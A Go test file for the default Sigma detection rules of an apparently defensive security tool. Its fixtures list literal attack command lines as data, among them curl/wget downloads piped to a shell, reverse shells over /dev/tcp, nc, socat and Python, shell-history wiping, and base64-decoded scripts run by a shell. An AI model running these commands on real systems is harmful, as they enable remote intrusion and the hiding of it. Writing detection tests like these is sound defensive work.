package rules_test

import (
	"context"
	"io/fs"
	"regexp"
	"slices"
	"testing"

	"github.com/vigilhq/vigil/detect/internal/duckdbtest"
	"github.com/vigilhq/vigil/detect/rules"
	"github.com/vigilhq/vigil/detect/sigma"
	"github.com/vigilhq/vigil/schema"
)

type event struct {
	image, cmd string
}

// columns are an event's columns: process events by default, or the
// columns given for other tables.
func (e event) columns() map[string]any {
	return map[string]any{"process_executable": e.image, "process_command_line": e.cmd}
}

type conn struct {
	image string
	ip    any
}

func (c conn) columns() map[string]any {
	return map[string]any{"process_executable": c.image, "destination_ip": c.ip}
}

type row interface{ columns() map[string]any }

// Each default rule must match typical attack command lines and none of
// the benign ones, on a real DuckDB.
var cases = map[string]struct {
	match, benign []row
}{
	"445d8781-82b1-41d6-a489-7990e9e44054": { // download piped to a shell
		match: []row{
			event{"/bin/sh", "sh -c curl -fsSL http://203.0.113.7/i.sh | sh"},
			event{"/bin/bash", "bash -c wget -qO- http://evil.example/x|bash"},
			event{"/bin/sh", "/bin/sh -c curl -s https://get.example.com | sudo bash -s -- --yes"},
			event{"/bin/sh", "sh -c WGET -O - http://x/y | /bin/sh"},
		},
		benign: []row{
			event{"/usr/bin/curl", "curl -o /tmp/file.tar.gz https://example.com/file.tar.gz"},
			event{"/usr/bin/wget", "wget https://example.com/release.zip"},
			event{"/bin/sh", "sh -c curl -s https://api.example.com/v1 | jq .items"},
			event{"/bin/bash", "bash ./install.sh"},
			event{"/bin/sh", "sh -c cat script | sh"},
		},
	},
	"5c0b5f6c-b41b-4d53-bf4a-576ee375a074": { // reverse shell
		match: []row{
			event{"/bin/bash", "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"},
			event{"/bin/sh", "sh -c exec 5<>/dev/tcp/198.51.100.2/80;cat <&5 | while read l; do $l 2>&5 >&5; done"},
			event{"/usr/bin/nc", "nc 10.0.0.1 4444 -e /bin/sh"},
			event{"/usr/bin/ncat", "ncat --exec /bin/bash 10.0.0.1 4444"},
			event{"/usr/bin/socat", "socat tcp-connect:10.0.0.1:4444 exec:/bin/sh,pty,stderr"},
			event{"/bin/sh", "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f"},
			event{"/usr/bin/python3", `python3 -c import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")`},
		},
		benign: []row{
			event{"/usr/bin/nc", "nc -zv db.internal 5432"},
			event{"/usr/bin/ncat", "ncat --version"},
			event{"/bin/ls", "ls -l /dev/"},
			event{"/usr/bin/socat", "socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80"},
			event{"/usr/bin/python3", "python3 -m http.server 8000"},
			event{"/usr/bin/grep", "grep -e bash /etc/shells"},
		},
	},
	"35b82a6d-8376-44b5-9e30-ac4417d1fd82": { // shell history tampering
		match: []row{
			event{"/bin/rm", "rm -f /root/.bash_history"},
			event{"/bin/sh", "sh -c cat /dev/null > ~/.bash_history"},
			event{"/bin/ln", "ln -sf /dev/null /home/alice/.zsh_history"},
			event{"/bin/bash", "bash -c history -c && exit"},
			event{"/bin/bash", "bash -c unset HISTFILE; ./run"},
			event{"/usr/bin/shred", "shred -u .bash_history"},
		},
		benign: []row{
			event{"/bin/cat", "cat /root/.bash_history"},
			event{"/usr/bin/grep", "grep ssh /home/bob/.bash_history"},
			event{"/bin/rm", "rm -rf /tmp/build"},
			event{"/usr/bin/tail", "tail -n 50 .zsh_history"},
			event{"/bin/bash", "bash ./history.sh"},
		},
	},
	"90b7621a-0fa6-4543-ba98-f3b8e6c609aa": { // shell connecting out
		match: []row{
			conn{"/usr/bin/bash", "203.0.113.9"},
			conn{"/bin/sh", "2001:db8::5"},
			conn{"/usr/bin/zsh", "10.1.2.3"},
		},
		benign: []row{
			conn{"/usr/bin/bash", "127.0.0.1"},
			conn{"/usr/bin/bash", "::1"},
			conn{"/usr/bin/curl", "203.0.113.9"},
			conn{"/usr/sbin/sshd", "198.51.100.7"},
			conn{"/usr/bin/bash", ""},
			conn{"/usr/bin/bash", nil},
			conn{"/usr/bin/bashful", "203.0.113.9"},
		},
	},
	"3088e5c9-565a-40a0-b55b-8613db1ffbdd": { // base64-decoded script
		match: []row{
			event{"/bin/sh", "sh -c echo ZWNobyBoaQo= | base64 -d | sh"},
			event{"/bin/bash", "bash -c echo Y3VybCBldmls|base64 --decode|bash"},
			event{"/bin/sh", "sh -c openssl enc -base64 -d <<< aWQK | /bin/bash"},
		},
		benign: []row{
			event{"/usr/bin/base64", "base64 -d cert.b64 > cert.der"},
			event{"/bin/sh", "sh -c echo hello | base64"},
			event{"/bin/sh", "sh -c cat notes.txt | sh"},
		},
	},
}

var uuidRE = regexp.MustCompile(`^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$`)

func TestDefaultRules(t *testing.T) {
	db := duckdbtest.Open(t)
	for _, name := range []string{"process_creation", "network_connection"} {
		tbl, _ := schema.Lookup(name)
		db.CreateTable(t, tbl)
	}

	files, err := fs.Glob(rules.FS, "*.yml")
	if err != nil || len(files) < 3 {
		t.Fatalf("embedded rules: %v, %v", files, err)
	}
	seen := map[string]bool{}
	for _, f := range files {
		data, _ := fs.ReadFile(rules.FS, f)
		r, err := sigma.ParseOne(f, data)
		if err != nil {
			t.Fatal(err)
		}
		if !uuidRE.MatchString(r.ID) || seen[r.ID] {
			t.Errorf("%s: id %q is not a fresh UUIDv4", f, r.ID)
		}
		seen[r.ID] = true
		if r.Title == "" || r.Level == "" || r.Description == "" || r.Logsource.Product != "linux" || r.Logsource.Category == "" {
			t.Errorf("%s: incomplete metadata: %+v", f, r)
		}
		tc, ok := cases[r.ID]
		if !ok {
			t.Errorf("%s: rule %s has no test cases", f, r.ID)
			continue
		}
		q, err := sigma.Compile(r, sigma.Options{})
		if err != nil {
			t.Fatal(err)
		}
		t.Run(f, func(t *testing.T) {
			if _, err := db.SQL.Exec("DELETE FROM " + q.Table); err != nil {
				t.Fatal(err)
			}
			var want []int64
			for _, e := range tc.match {
				want = append(want, db.Insert(t, q.Table, e.columns()))
			}
			for _, e := range tc.benign {
				db.Insert(t, q.Table, e.columns())
			}
			res, err := db.Query(context.Background(), "SELECT seq, * FROM "+q.Table+" WHERE "+q.Where+" ORDER BY seq")
			if err != nil {
				t.Fatalf("%v\n%s", err, q.Where)
			}
			var got []int64
			for _, row := range res.Rows {
				got = append(got, row[0].(int64))
			}
			if !slices.Equal(got, want) {
				t.Errorf("matched %v, want %v (the attack lines); matched rows:", got, want)
				for _, row := range res.Maps() {
					t.Logf("  %v %v %v", row["process_executable"], row["process_command_line"], row["destination_ip"])
				}
			}
		})
	}
	for id := range cases {
		if !seen[id] {
			t.Errorf("test cases for %s, but no such rule", id)
		}
	}
}
